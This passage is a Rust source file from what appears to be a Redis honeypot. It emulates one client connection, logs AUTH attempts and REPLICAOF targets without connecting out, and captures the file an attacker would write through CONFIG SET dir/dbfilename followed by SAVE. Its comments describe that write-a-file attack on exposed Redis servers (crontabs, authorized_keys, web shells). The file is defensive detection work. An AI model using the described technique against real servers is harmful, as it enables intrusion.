//! One Redis connection as a sans-IO state machine: a parsed command and the time go in;
//! the reply, the events to record and whether to close come out. The keyspace and the
//! CONFIG SET values are the node's (`keyspace.rs`), shared by every connection of the
//! service; cached scripts live here, bounded, per connection.

use super::info::{self, CONFIG_DEFAULTS, InfoView, ServerFacts, glob};
use super::keyspace::{
    self, DATABASES, Entry, Keyspace, MAX_BYTES, MAX_KEYS, MAX_VALUE, Node, Refusal, SOURCE_BYTES,
    SOURCE_KEYS, Source,
};
use super::resp::{Reply, parse_i64};
use super::value::Value;
use collections::wrongtype;
use honeybee_proto::config::LoginPolicy;
use honeybee_proto::event::{AuthAttempt, AuthMethod, EventKind, MAX_FIELD_LEN, clamp};
use std::collections::HashMap;
use std::sync::Arc;

// A child module, so that the typed-value commands share `Conn`'s private state.
#[path = "collections.rs"]
mod collections;
#[path = "scripting.rs"]
mod scripting;

/// CONFIG parameters Redis 7.0 refuses to change at run time ("immutable").
const IMMUTABLE_CONFIGS: [&str; 10] = [
    "appendfilename",
    "daemonize",
    "databases",
    "enable-debug-command",
    "enable-module-command",
    "io-threads",
    "logfile",
    "pidfile",
    "supervised",
    "tcp-backlog",
];
/// CONFIG parameters Redis 7.0 refuses unless `enable-protected-configs` (off by
/// default): exactly the two the classic write-a-file attack needs.
const PROTECTED_CONFIGS: [&str; 2] = ["dir", "dbfilename"];
/// Longest refused `dir` / `dbfilename` kept for the SAVE capture.
const MAX_ATTEMPTED: usize = 4096;

/// Most bytes of scripts one connection may cache.
pub(crate) const MAX_SCRIPT_BYTES: usize = 128 * 1024;
/// Most scripts cached by EVAL / SCRIPT LOAD.
const MAX_SCRIPTS: usize = 32;
/// Most bytes of stored values one SAVE capture keeps (the rest is cut, and the capture
/// says so): the would-be file of a full keyspace is 4 MiB.
const MAX_SAVE_CAPTURE: usize = 1024 * 1024;
/// SCAN's page when COUNT is not given, as Redis's.
const SCAN_COUNT: usize = 10;
/// Most keys one SCAN page may hold, whatever COUNT says.
const MAX_SCAN_COUNT: usize = 1000;
/// Glob steps one command may spend (KEYS, SCAN, CONFIG GET).
const GLOB_BUDGET: u64 = 2_000_000;
/// Most bytes one reply may take on the wire. Any one value (≤ 128 KiB), a SCAN page,
/// `CONFIG GET *`, and `KEYS *` of a full keyspace whose keys average up to 112 bytes
/// always fit; a reply that repeats stored values (`MGET k k k …`) does not. It is
/// charged while the reply is built, before each value is copied, and checked once more
/// on the finished reply. Past it the connection is closed without an answer, which is
/// what Redis does to a client over its `client-output-buffer-limit`, and that is a
/// `redis_reply` event.
pub(crate) const MAX_REPLY_BYTES: usize = 512 * 1024;
/// What one array element or bulk costs besides its bytes (`$`, length, two CRLFs).
const REPLY_ITEM_OVERHEAD: usize = 16;

/// The time, passed in.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Clock {
    /// Milliseconds since the Unix epoch.
    pub unix_ms: i64,
}

/// What the peer would have written to disk: the attack behind `CONFIG SET dir` +
/// `SAVE` (crontabs, `authorized_keys`, web shells).
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct SaveCapture {
    /// `dir/dbfilename`.
    pub path: String,
    pub meta: Vec<(String, String)>,
    /// Every value of the connection's keyspace, one per line.
    pub content: Vec<u8>,
}

/// What one command did.
#[derive(Debug, Default)]
pub(crate) struct Outcome {
    /// `None`: no answer (the connection closes as after an attack on Redis's framing).
    pub reply: Option<Reply>,
    /// Recorded after the `Command` event.
    pub events: Vec<EventKind>,
    pub close: bool,
    /// Replies queued and not yet written are dropped too: Redis frees such a client
    /// "as soon as possible" and never writes to it again (`CLIENT_CLOSE_ASAP`).
    pub discard_pending: bool,
    pub capture: Option<SaveCapture>,
    /// A blocking command found no data: wait this long (or until the peer goes), then
    /// send the reply (its timeout answer).
    pub block: Option<std::time::Duration>,
}

impl Outcome {
    fn reply(r: Reply) -> Outcome {
        Outcome {
            reply: Some(r),
            ..Outcome::default()
        }
    }
}

/// Per-service settings every connection shares.
#[derive(Debug)]
pub(crate) struct Settings {
    pub facts: ServerFacts,
    pub require_auth: bool,
    pub login: LoginPolicy,
    /// The node's keyspace for this service.
    pub node: Arc<Node>,
}

/// One connection's state.
#[derive(Debug)]
pub(crate) struct Conn {
    settings: Arc<Settings>,
    tcp_port: u16,
    peer: String,
    local: String,
    client_id: u64,
    connected_clients: u64,
    authed: bool,
    failed_auths: u32,
    db: usize,
    /// Whom the keys this connection writes are charged to.
    source: Source,
    /// Bytes of this connection's cached scripts.
    script_bytes: usize,
    limit_reported: bool,
    /// Reply bytes the current command may still produce.
    reply_left: usize,
    /// The current command's reply went over [`MAX_REPLY_BYTES`].
    reply_over: bool,
    scripts: HashMap<String, Vec<u8>>,
    client_name: Option<Vec<u8>>,
    replica_of: Option<(String, u16, i64)>,
    started_unix_ms: i64,
    /// `HELLO 3` switched this connection's replies to RESP3.
    resp3: bool,
    /// `dir` / `dbfilename` values a refused CONFIG SET asked for: a later SAVE
    /// captures the file the attacker meant to write there.
    attempted: Vec<(&'static str, Vec<u8>)>,
}

/// Argument count rule: exactly `n` (positive) or at least `-n` (negative), as Redis's
/// command table writes it (the name counts).
fn arity_ok(arity: i32, argc: usize) -> bool {
    if arity >= 0 {
        argc == arity as usize
    } else {
        argc >= arity.unsigned_abs() as usize
    }
}

/// Commands this server knows, with Redis's arity, and whether they run before AUTH.
fn lookup(name: &str) -> Option<(i32, bool)> {
    let arity = match name {
        "auth" => return Some((-2, true)),
        "hello" => return Some((-1, true)),
        "quit" => return Some((-1, true)),
        "ping" => -1,
        "echo" => 2,
        "info" => -1,
        "config" => -2,
        "slaveof" | "replicaof" => 3,
        "module" => -2,
        "eval" | "evalsha" | "eval_ro" | "evalsha_ro" => -3,
        "script" => -2,
        "set" => -3,
        "get" | "type" | "ttl" | "pttl" | "persist" | "strlen" | "incr" | "decr" => 2,
        "setnx" | "getset" | "append" | "incrby" | "decrby" | "rename" => 3,
        "setex" | "psetex" => 4,
        "del" | "unlink" | "exists" | "mget" => -2,
        "mset" => -3,
        "keys" => 2,
        "scan" => -2,
        "randomkey" | "dbsize" | "lastsave" | "time" | "role" | "bgrewriteaof" => 1,
        "flushall" | "flushdb" | "save" | "bgsave" | "shutdown" => -1,
        "select" => 2,
        "client" | "command" | "slowlog" | "memory" | "debug" | "latency" | "acl" => -1,
        "wait" => 3,
        "monitor" => 1,
        "lpush" | "rpush" | "lpushx" | "rpushx" | "sadd" | "srem" | "zrem" | "hdel" | "hmget" => -3,
        "lpop" | "rpop" | "spop" => -2,
        "llen" | "hlen" | "scard" | "zcard" | "xlen" | "smembers" | "hgetall" | "hkeys"
        | "hvals" => 2,
        "lrange" | "lset" | "lrem" | "hsetnx" | "hincrby" | "zincrby" => 4,
        "lindex" | "hget" | "hexists" | "hstrlen" | "sismember" | "zscore" | "swapdb" => 3,
        "hset" | "hmset" | "zadd" | "zrange" | "zrevrange" | "xrange" | "xrevrange" => -4,
        "xadd" => -5,
        "object" | "function" | "cluster" => -2,
        // Set algebra, score/lex ranges, blocking pops and stream reads (arities of 7.0).
        "sinter" | "sunion" | "sdiff" => -2,
        "sinterstore" | "sunionstore" | "sdiffstore" | "sintercard" | "smismember" | "xdel" => -3,
        "zrangebyscore" | "zrevrangebyscore" | "zrangebylex" | "zrevrangebylex" | "xread" => -4,
        "zcount" | "zlexcount" => 4,
        "blpop" | "brpop" | "bzpopmin" | "bzpopmax" => -3,
        "lmove" => 5,
        "zpopmin" | "zpopmax" => -2,
        "smove" => 4,
        "blmove" => 6,
        // Cross-key sorted sets, more list/set/hash commands, consumer groups (7.0's).
        "zrank" | "zrevrank" | "rpoplpush" => 3,
        "zunion" | "zinter" | "zdiff" | "zintercard" | "zmscore" | "lpos" | "xpending" => -3,
        "zunionstore" | "zinterstore" | "zdiffstore" | "zmpop" | "lmpop" | "xack" | "xtrim" => -4,
        "zrangestore" | "bzmpop" | "blmpop" => -5,
        "srandmember" | "hrandfield" | "zrandmember" | "xgroup" => -2,
        "zremrangebyscore" | "zremrangebyrank" | "zremrangebylex" | "ltrim" | "brpoplpush" => 4,
        "linsert" => 5,
        "xreadgroup" => -7,
        "getdel" | "expiretime" | "pexpiretime" => 2,
        "getex" | "touch" => -2,
        "getrange" | "substr" | "setrange" => 4,
        "msetnx" | "expire" | "pexpire" | "expireat" | "pexpireat" | "hscan" | "sscan"
        | "zscan" => -3,
        "renamenx" | "publish" | "move" => 3,
        "copy" => -3,
        _ => return None,
    };
    Some((arity, false))
}

fn lower(b: &[u8]) -> String {
    String::from_utf8_lossy(b).to_ascii_lowercase()
}

fn text(b: &[u8]) -> String {
    clamp(&String::from_utf8_lossy(b), MAX_FIELD_LEN)
}

fn wrong_args(name: &str) -> Reply {
    Reply::err(format!(
        "ERR wrong number of arguments for '{name}' command"
    ))
}

fn not_int() -> Reply {
    Reply::err("ERR value is not an integer or out of range")
}

fn syntax() -> Reply {
    Reply::err("ERR syntax error")
}

/// `parseScanCursorOrReply`: C's `strtoul` over the whole argument (a sign allowed, so
/// `-1` is the largest cursor; no leading space, no overflow).
fn scan_cursor(b: &[u8]) -> Option<usize> {
    let (neg, digits) = match b.split_first() {
        Some((b'-', d)) => (true, d),
        Some((b'+', d)) => (false, d),
        _ => (false, b),
    };
    if digits.is_empty() || !digits.iter().all(u8::is_ascii_digit) {
        return None;
    }
    let n: u64 = std::str::from_utf8(digits).ok()?.parse().ok()?;
    let n = if neg { n.wrapping_neg() } else { n };
    Some(usize::try_from(n).unwrap_or(usize::MAX))
}

fn int_arg(b: &[u8]) -> Option<i64> {
    parse_i64(b)
}

impl Conn {
    pub(crate) fn new(
        settings: Arc<Settings>,
        peer: std::net::SocketAddr,
        local: std::net::SocketAddr,
        connected_clients: u64,
        clock: Clock,
    ) -> Conn {
        let client_id = settings
            .facts
            .connections
            .fetch_add(1, std::sync::atomic::Ordering::Relaxed)
            + 1;
        Conn {
            tcp_port: local.port(),
            peer: peer.to_string(),
            local: local.to_string(),
            client_id,
            connected_clients,
            authed: false,
            failed_auths: 0,
            db: 0,
            source: keyspace::source_of(peer.ip()),
            script_bytes: 0,
            limit_reported: false,
            reply_left: MAX_REPLY_BYTES,
            reply_over: false,
            scripts: HashMap::new(),
            client_name: None,
            replica_of: None,
            started_unix_ms: clock.unix_ms,
            resp3: false,
            attempted: Vec::new(),
            settings,
        }
    }

    /// Whether replies go out as RESP3 (after `HELLO 3`).
    pub(crate) fn resp3(&self) -> bool {
        self.resp3
    }

    /// Runs one command (`args` is never empty) within the reply budget.
    pub(crate) fn execute(&mut self, args: &[Vec<u8>], clock: Clock) -> Outcome {
        self.reply_left = MAX_REPLY_BYTES;
        self.reply_over = false;
        let mut out = self.run(args, clock);
        let size = out.reply.as_ref().map_or(0, Reply::wire_len);
        if self.reply_over || size > MAX_REPLY_BYTES {
            out.reply = None;
            out.close = true;
            out.events.push(EventKind::LimitReached {
                limit: "redis_reply".into(),
                detail: format!(
                    "reply to {} over {MAX_REPLY_BYTES} bytes: connection closed",
                    clamp(&lower(&args[0]), 64)
                ),
            });
        }
        out
    }

    /// Charges `n` bytes of stored data about to be copied into the reply; false (and
    /// the command's reply is dropped) once over the budget.
    fn reply_charge(&mut self, n: usize) -> bool {
        charge_reply(&mut self.reply_left, &mut self.reply_over, n)
    }

    fn run(&mut self, args: &[Vec<u8>], clock: Clock) -> Outcome {
        self.settings
            .facts
            .commands
            .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let name = lower(&args[0]);
        // Redis (since 3.2.7) drops a client that talks HTTP to it ("Possible SECURITY
        // ATTACK detected", `securityWarningCommand`): no reply, not even those still
        // queued for earlier commands of the same read (`GET / HTTP/1.1` before `Host:`).
        if name == "post" || name == "host:" {
            return Outcome {
                close: true,
                discard_pending: true,
                events: vec![EventKind::LimitReached {
                    limit: "redis_cross_protocol".into(),
                    detail: format!(
                        "'{}' command: an HTTP request sent to Redis; connection aborted unanswered",
                        clamp(&String::from_utf8_lossy(&args[0]), 32)
                    ),
                }],
                ..Outcome::default()
            };
        }
        let Some((arity, no_auth)) = lookup(&name) else {
            let mut msg = format!(
                "ERR unknown command '{}', with args beginning with: ",
                clamp(&String::from_utf8_lossy(&args[0]), 128)
            );
            for a in args.iter().skip(1).take(16) {
                msg.push_str(&format!("'{}' ", clamp(&String::from_utf8_lossy(a), 128)));
            }
            return Outcome::reply(Reply::err(msg));
        };
        if !arity_ok(arity, args.len()) {
            return Outcome::reply(wrong_args(&name));
        }
        // Containers' subcommands: unknown / wrong count, from the real table; HELP is
        // the real help text.
        if let Some(r) = super::command_table::check_subcommand(&name, &args[1..]) {
            return Outcome::reply(r);
        }
        if self.settings.require_auth && !self.authed && !no_auth {
            return Outcome::reply(Reply::err("NOAUTH Authentication required."));
        }
        if args.len() == 2
            && lower(&args[1]) == "help"
            && let Some(r) = super::command_table::help(&name)
        {
            return Outcome::reply(r);
        }
        let a = &args[1..];
        match name.as_str() {
            "quit" => Outcome {
                reply: Some(Reply::ok()),
                close: true,
                ..Outcome::default()
            },
            "auth" => self.auth(a),
            "hello" => self.hello(a),
            "ping" => Outcome::reply(match a {
                [] => Reply::Simple("PONG".into()),
                [m] => Reply::bulk(m),
                _ => wrong_args("ping"),
            }),
            "echo" => Outcome::reply(Reply::bulk(&a[0])),
            "info" => {
                let sections: Vec<String> = a.iter().take(16).map(|s| lower(s)).collect();
                let node = Arc::clone(&self.settings.node);
                let mut ks = node.lock();
                ks.sweep(clock.unix_ms);
                let text = info::info(&self.settings.facts, &self.view(&ks, clock), &sections);
                Outcome::reply(Reply::Verbatim(text.into_bytes()))
            }
            "config" => self.config(a),
            "slaveof" | "replicaof" => self.replicaof(a, clock),
            "module" => Outcome::reply(module(a, at_least_7(&self.settings.facts.version))),
            "eval" | "eval_ro" => self.eval(&a[0], &a[1..], clock),
            "evalsha" | "evalsha_ro" => {
                let sha = lower(&a[0]);
                match self.scripts.get(&sha).cloned() {
                    Some(script) => self.eval(&script, &a[1..], clock),
                    None => {
                        Outcome::reply(Reply::err("NOSCRIPT No matching script. Please use EVAL."))
                    }
                }
            }
            "script" => self.script(a),
            "save" | "bgsave" => self.save(&name, clock),
            "shutdown" => Outcome {
                // A real server goes away without a word; the connection just closes.
                close: true,
                ..Outcome::default()
            },
            "monitor" => Outcome::reply(Reply::ok()),
            "blpop" | "brpop" | "bzpopmin" | "bzpopmax" | "blmove" | "lmove" | "xread"
            | "rpoplpush" | "brpoplpush" | "lmpop" | "zmpop" | "blmpop" | "bzmpop"
            | "xreadgroup" => {
                let node = Arc::clone(&self.settings.node);
                let mut ks = node.lock();
                ks.sweep(clock.unix_ms);
                self.blocking(&mut ks, &name, a, clock, &mut Vec::new())
            }
            _ => {
                let mut events = Vec::new();
                // One short lock per command, never across an await (this is sync).
                let node = Arc::clone(&self.settings.node);
                let mut ks = node.lock();
                ks.sweep(clock.unix_ms);
                let reply = self.data(&mut ks, &name, a, clock, &mut events);
                Outcome {
                    reply: Some(reply),
                    events,
                    ..Outcome::default()
                }
            }
        }
    }

    fn auth(&mut self, a: &[Vec<u8>]) -> Outcome {
        let (user, pass) = match a {
            [p] => (b"default".as_slice(), p),
            [u, p] => (u.as_slice(), p),
            _ => return Outcome::reply(syntax()),
        };
        let user = text(user);
        let password = text(pass);
        let (success, reply) = if !self.settings.require_auth && a.len() == 1 {
            (
                false,
                Reply::err(
                    "ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?",
                ),
            )
        } else if !self.settings.require_auth {
            // No password set: the default user takes any password, named users do not exist.
            let ok = user == "default";
            (ok, if ok { Reply::ok() } else { wrongpass() })
        } else if self
            .settings
            .login
            .accepts(self.failed_auths, &user, &password)
        {
            self.authed = true;
            (true, Reply::ok())
        } else {
            self.failed_auths = self.failed_auths.saturating_add(1);
            (false, wrongpass())
        };
        Outcome {
            reply: Some(reply),
            events: vec![EventKind::AuthAttempt(AuthAttempt {
                method: AuthMethod::Password,
                username: user,
                password: Some(password),
                key_fingerprint: None,
                key_algorithm: None,
                client_version: None,
                success,
            })],
            ..Outcome::default()
        }
    }

    /// HELLO [protover [AUTH user pass] [SETNAME name]], in Redis 7.0's order: the
    /// version, every option's syntax, then AUTH, then the name; the protocol switches
    /// only when all of it passed, and the reply is already in the new one.
    fn hello(&mut self, a: &[Vec<u8>]) -> Outcome {
        let mut events = Vec::new();
        let mut ver = if self.resp3 { 3 } else { 2 };
        if let Some(v) = a.first() {
            match int_arg(v) {
                Some(n @ (2 | 3)) => ver = n,
                Some(_) => {
                    return Outcome::reply(Reply::err("NOPROTO unsupported protocol version"));
                }
                None => {
                    return Outcome::reply(Reply::err(
                        "ERR Protocol version is not an integer or out of range",
                    ));
                }
            }
        }
        let (mut login, mut name) = (None, None);
        let mut i = 1;
        while i < a.len() {
            let more = a.len() - 1 - i;
            match lower(&a[i]).as_str() {
                "auth" if more >= 2 => {
                    login = Some(&a[i + 1..i + 3]);
                    i += 3;
                }
                "setname" if more >= 1 => {
                    name = Some(&a[i + 1]);
                    i += 2;
                }
                _ => {
                    return Outcome::reply(Reply::err(format!(
                        "ERR Syntax error in HELLO option '{}'",
                        clamp(&String::from_utf8_lossy(&a[i]), 128)
                    )));
                }
            }
        }
        if let Some(pair) = login {
            let out = self.auth(pair);
            events.extend(out.events);
            if let Some(Reply::Error(e)) = out.reply {
                return Outcome {
                    reply: Some(Reply::Error(e)),
                    events,
                    ..Outcome::default()
                };
            }
        }
        if self.settings.require_auth && !self.authed {
            return Outcome {
                reply: Some(Reply::err(
                    "NOAUTH HELLO must be called with the client already authenticated, otherwise the HELLO AUTH <user> <pass> option can be used to authenticate the client and select the RESP protocol version at the same time",
                )),
                events,
                ..Outcome::default()
            };
        }
        if let Some(n) = name
            && let Err(e) = self.set_name(n)
        {
            return Outcome {
                reply: Some(e),
                events,
                ..Outcome::default()
            };
        }
        self.resp3 = ver == 3;
        let f = &self.settings.facts;
        let kv = |k: &str, v: Reply| (Reply::bulk(k), v);
        Outcome {
            reply: Some(Reply::Map(vec![
                kv("server", Reply::bulk("redis")),
                kv("version", Reply::bulk(&f.version)),
                kv("proto", Reply::Int(ver)),
                kv("id", Reply::Int(self.client_id as i64)),
                kv("mode", Reply::bulk("standalone")),
                kv(
                    "role",
                    Reply::bulk(if self.replica_of.is_some() {
                        "replica"
                    } else {
                        "master"
                    }),
                ),
                kv("modules", Reply::Array(vec![])),
            ])),
            events,
            ..Outcome::default()
        }
    }

    /// CLIENT SETNAME's check and effect.
    fn set_name(&mut self, n: &[u8]) -> Result<(), Reply> {
        if n.iter().any(|&b| b <= b' ' || b > b'~') {
            return Err(Reply::err(
                "ERR Client names cannot contain spaces, newlines or special characters.",
            ));
        }
        self.client_name = if n.is_empty() {
            None
        } else {
            Some(n.iter().copied().take(256).collect())
        };
        Ok(())
    }

    fn config_value(&self, ks: &Keyspace, name: &str) -> Vec<u8> {
        if let Some(v) = ks.config.get(name) {
            return v.clone();
        }
        match name {
            "port" => self.tcp_port.to_string().into_bytes(),
            "requirepass" if self.settings.require_auth => {
                self.settings.facts.requirepass.clone().into_bytes()
            }
            _ => CONFIG_DEFAULTS
                .iter()
                .find(|(n, _)| *n == name)
                .map(|(_, v)| v.as_bytes().to_vec())
                .unwrap_or_default(),
        }
    }

    fn config(&mut self, a: &[Vec<u8>]) -> Outcome {
        let sub = lower(&a[0]);
        let node = Arc::clone(&self.settings.node);
        match (sub.as_str(), a.len()) {
            ("get", n) if n >= 2 => {
                let ks = node.lock();
                let mut budget = GLOB_BUDGET;
                let mut out = Vec::new();
                for (name, _) in CONFIG_DEFAULTS {
                    if a[1..]
                        .iter()
                        .take(16)
                        .any(|p| glob(p, name.as_bytes(), true, &mut budget))
                    {
                        // Each parameter once, whatever the patterns: bounded by the
                        // state cap, and charged all the same.
                        let value = self.config_value(&ks, name);
                        if !self.reply_charge(name.len() + value.len() + REPLY_ITEM_OVERHEAD) {
                            break;
                        }
                        out.push((Reply::bulk(name), Reply::Bulk(value)));
                    }
                }
                Outcome::reply(Reply::Map(out))
            }
            ("set", n) if n >= 3 && n % 2 == 1 => {
                let mut events = Vec::new();
                // All names first, then what may not change, then the changes: Redis
                // applies a CONFIG SET whole or not at all.
                let mut known = Vec::with_capacity(a.len() / 2);
                for pair in a[1..].chunks(2) {
                    let name = lower(&pair[0]);
                    let Some((k, _)) = CONFIG_DEFAULTS.iter().find(|(n, _)| *n == name) else {
                        return Outcome::reply(Reply::err(format!(
                            "ERR Unknown option or number of arguments for CONFIG SET - '{}'",
                            clamp(&name, 128)
                        )));
                    };
                    known.push(*k);
                }
                let v7 = at_least_7(&self.settings.facts.version);
                for (k, pair) in known.iter().zip(a[1..].chunks(2)) {
                    let why = if v7 && IMMUTABLE_CONFIGS.contains(k) {
                        "immutable"
                    } else if v7 && PROTECTED_CONFIGS.contains(k) {
                        "protected"
                    } else {
                        continue;
                    };
                    if why == "protected" {
                        // Kept for the capture a later SAVE makes; bounded.
                        self.attempted.retain(|(n, _)| n != k);
                        self.attempted
                            .push((k, pair[1].iter().copied().take(MAX_ATTEMPTED).collect()));
                    }
                    return Outcome::reply(Reply::err(format!(
                        "ERR CONFIG SET failed (possibly related to argument '{k}') - can't set {why} config"
                    )));
                }
                for (known, pair) in known.iter().zip(a[1..].chunks(2)) {
                    if !node.lock().config_set(known, pair[1].clone()) {
                        if !self.limit_reported {
                            self.limit_reported = true;
                            events.push(EventKind::LimitReached {
                                limit: "redis_keyspace".into(),
                                detail: format!(
                                    "CONFIG SET values over {} bytes",
                                    keyspace::MAX_CONFIG_BYTES
                                ),
                            });
                        }
                        return Outcome {
                            reply: Some(oom()),
                            events,
                            ..Outcome::default()
                        };
                    }
                }
                Outcome {
                    reply: Some(Reply::ok()),
                    events,
                    ..Outcome::default()
                }
            }
            ("resetstat" | "rewrite", 1) => Outcome::reply(Reply::ok()),
            ("get" | "set" | "resetstat" | "rewrite", _) => {
                Outcome::reply(wrong_args(&format!("config|{sub}")))
            }
            _ => Outcome::reply(Reply::err(format!(
                "ERR unknown subcommand '{}'. Try CONFIG HELP.",
                clamp(&sub, 128)
            ))),
        }
    }

    fn replicaof(&mut self, a: &[Vec<u8>], clock: Clock) -> Outcome {
        if lower(&a[0]) == "no" && lower(&a[1]) == "one" {
            self.replica_of = None;
            return Outcome::reply(Reply::ok());
        }
        let Some(port) = int_arg(&a[1]) else {
            return Outcome::reply(Reply::err("ERR Invalid master port"));
        };
        let Ok(port) = u16::try_from(port) else {
            return Outcome::reply(Reply::err("ERR Invalid master port"));
        };
        let host = text(&a[0]);
        let url = clamp(&format!("redis://{host}:{port}"), MAX_FIELD_LEN);
        // Recorded, never connected to: a honeypot opens no outbound connection.
        self.replica_of = Some((clamp(&host, 256), port, clock.unix_ms));
        Outcome {
            reply: Some(Reply::ok()),
            events: vec![EventKind::Download {
                url,
                tool: "replicaof".into(),
            }],
            ..Outcome::default()
        }
    }

    fn eval(&mut self, script: &[u8], rest: &[Vec<u8>], clock: Clock) -> Outcome {
        let Some(numkeys) = rest.first().and_then(|n| int_arg(n)) else {
            return Outcome::reply(not_int());
        };
        if numkeys < 0 {
            return Outcome::reply(Reply::err("ERR Number of keys can't be negative"));
        }
        if numkeys as u64 > (rest.len() - 1) as u64 {
            return Outcome::reply(Reply::err(
                "ERR Number of keys can't be greater than number of args",
            ));
        }
        let sha = sha1_hex(script);
        let mut events = Vec::new();
        if !self.scripts.contains_key(&sha)
            && self.scripts.len() < MAX_SCRIPTS
            && self.charge(script.len(), &mut events)
        {
            self.scripts.insert(sha.clone(), script.to_vec());
        }
        let n = numkeys as usize;
        let (keys, argv) = rest[1..].split_at(n);
        let reply = scripting::run(self, script, &sha, keys, argv, clock, &mut events);
        Outcome {
            reply: Some(reply),
            events,
            ..Outcome::default()
        }
    }

    fn script(&mut self, a: &[Vec<u8>]) -> Outcome {
        match (lower(&a[0]).as_str(), a.len()) {
            ("load", 2) => {
                let sha = sha1_hex(&a[1]);
                let mut events = Vec::new();
                if !self.scripts.contains_key(&sha)
                    && self.scripts.len() < MAX_SCRIPTS
                    && self.charge(a[1].len(), &mut events)
                {
                    self.scripts.insert(sha.clone(), a[1].clone());
                }
                Outcome {
                    reply: Some(Reply::bulk(sha)),
                    events,
                    ..Outcome::default()
                }
            }
            ("exists", n) if n >= 2 => Outcome::reply(Reply::Array(
                a[1..]
                    .iter()
                    .map(|s| Reply::Int(i64::from(self.scripts.contains_key(&lower(s)))))
                    .collect(),
            )),
            ("flush", _) => {
                for s in self.scripts.values() {
                    self.script_bytes = self.script_bytes.saturating_sub(s.len());
                }
                self.scripts.clear();
                Outcome::reply(Reply::ok())
            }
            ("kill", 1) => Outcome::reply(Reply::err("NOTBUSY No scripts in execution right now.")),
            (sub, _) => Outcome::reply(Reply::err(format!(
                "ERR unknown subcommand or wrong number of arguments for '{}'. Try SCRIPT HELP.",
                clamp(sub, 128)
            ))),
        }
    }

    fn save(&mut self, name: &str, clock: Clock) -> Outcome {
        let node = Arc::clone(&self.settings.node);
        let mut ks = node.lock();
        ks.sweep(clock.unix_ms);
        ks.saved(clock.unix_ms);
        let value = |name: &str| {
            let tried = self.attempted.iter().find(|(n, _)| *n == name);
            let v = tried.map_or_else(|| self.config_value(&ks, name), |(_, v)| v.clone());
            String::from_utf8_lossy(&v).into_owned()
        };
        let dir = value("dir");
        let file = value("dbfilename");
        let refused = !self.attempted.is_empty();
        let moved =
            refused || ks.config.contains_key("dir") || ks.config.contains_key("dbfilename");
        let mut count = 0usize;
        let mut truncated = false;
        let mut content = Vec::new();
        if moved {
            // Every value in the node's keyspace (whoever wrote it), as the real file
            // would hold, up to the capture's cap.
            for d in 0..DATABASES {
                for e in ks.db(d).values() {
                    count += 1;
                    // Every element of a collection, one per line (what the RDB holds).
                    for item in e.value.items() {
                        if content.len() + item.len() + 1 > MAX_SAVE_CAPTURE {
                            truncated = true;
                            continue;
                        }
                        content.extend_from_slice(item);
                        content.push(b'\n');
                    }
                }
            }
        }
        drop(ks);
        let capture = (moved && count > 0).then(|| SaveCapture {
            path: clamp(
                &format!("{}/{}", dir.trim_end_matches('/'), file),
                MAX_FIELD_LEN,
            ),
            meta: vec![
                ("dir".into(), clamp(&dir, MAX_FIELD_LEN)),
                ("dbfilename".into(), clamp(&file, MAX_FIELD_LEN)),
                ("keys".into(), count.to_string()),
                ("command".into(), name.to_owned()),
                ("truncated".into(), truncated.to_string()),
                // Redis 7.0 refused the CONFIG SET (protected config): this is the file
                // the attacker meant to write, not one the server would have.
                ("config_refused".into(), refused.to_string()),
            ],
            content,
        });
        Outcome {
            reply: Some(if name == "save" {
                Reply::ok()
            } else {
                Reply::Simple("Background saving started".into())
            }),
            capture,
            ..Outcome::default()
        }
    }

    /// Counts `n` more bytes of cached scripts; false (and one `LimitReached` per
    /// connection) when over the cap.
    fn charge(&mut self, n: usize, events: &mut Vec<EventKind>) -> bool {
        if self.script_bytes + n > MAX_SCRIPT_BYTES {
            if !self.limit_reported {
                self.limit_reported = true;
                events.push(EventKind::LimitReached {
                    limit: "redis_keyspace".into(),
                    detail: format!("scripts of one connection over {MAX_SCRIPT_BYTES} bytes"),
                });
            }
            return false;
        }
        self.script_bytes += n;
        true
    }

    /// Stores `value` under `key` in the current database, charged to this
    /// connection's source; `false` when the node's bounds or the source's share refuse
    /// it (and the key keeps its old value). A refusal is recorded at most once a minute
    /// per kind on the node, as Redis logs OOM rejections sparingly.
    fn store(
        &mut self,
        ks: &mut Keyspace,
        key: &[u8],
        value: Value,
        expires: Option<i64>,
        clock: Clock,
        events: &mut Vec<EventKind>,
    ) -> bool {
        match ks.store(self.db, key, value, expires, self.source, clock.unix_ms) {
            Ok(()) => true,
            Err(r) => {
                self.refused(ks, r, clock, events);
                false
            }
        }
    }

    fn refused(&self, ks: &mut Keyspace, r: Refusal, clock: Clock, events: &mut Vec<EventKind>) {
        {
            {
                if ks.should_report(r, clock.unix_ms) {
                    events.push(EventKind::LimitReached {
                        limit: "redis_keyspace".into(),
                        detail: match r {
                            Refusal::Node => format!(
                                "node keyspace full: {MAX_KEYS} keys, {MAX_BYTES} bytes, {MAX_VALUE} bytes per value"
                            ),
                            Refusal::Source => format!(
                                "source {} owns its share: {SOURCE_KEYS} keys, {SOURCE_BYTES} bytes",
                                self.peer_ip()
                            ),
                        },
                    });
                }
            }
        }
    }

    fn peer_ip(&self) -> String {
        self.peer
            .parse::<std::net::SocketAddr>()
            .map_or_else(|_| self.peer.clone(), |a| a.ip().to_string())
    }
}

/// Takes `n` bytes (plus one item's framing) from a command's reply budget; false, and
/// `over` set, when they do not fit.
fn charge_reply(left: &mut usize, over: &mut bool, n: usize) -> bool {
    match left.checked_sub(n.saturating_add(REPLY_ITEM_OVERHEAD)) {
        Some(rest) if !*over => {
            *left = rest;
            true
        }
        _ => {
            *over = true;
            false
        }
    }
}

/// Whether the imitated version is 7.0 or later (protected configs and commands).
/// Operators who want CONFIG SET dir to succeed configure a 6.x version.
fn at_least_7(version: &str) -> bool {
    version
        .split('.')
        .next()
        .and_then(|m| m.parse::<u32>().ok())
        .is_none_or(|m| m >= 7)
}

/// A string's length (0 for other types; the caller checked the type).
fn str_len(e: &Entry) -> usize {
    match &e.value {
        Value::Str(s) => s.len(),
        _ => 0,
    }
}

/// A copy of a string value (empty for other types; the caller checked the type).
fn str_value(e: &Entry) -> Vec<u8> {
    match &e.value {
        Value::Str(s) => s.clone(),
        _ => Vec::new(),
    }
}

fn wrongpass() -> Reply {
    Reply::err("WRONGPASS invalid username-password pair or user is disabled.")
}

fn oom() -> Reply {
    Reply::err("OOM command not allowed when used memory > 'maxmemory'.")
}

fn module(a: &[Vec<u8>], v7: bool) -> Reply {
    match (lower(&a[0]).as_str(), a.len()) {
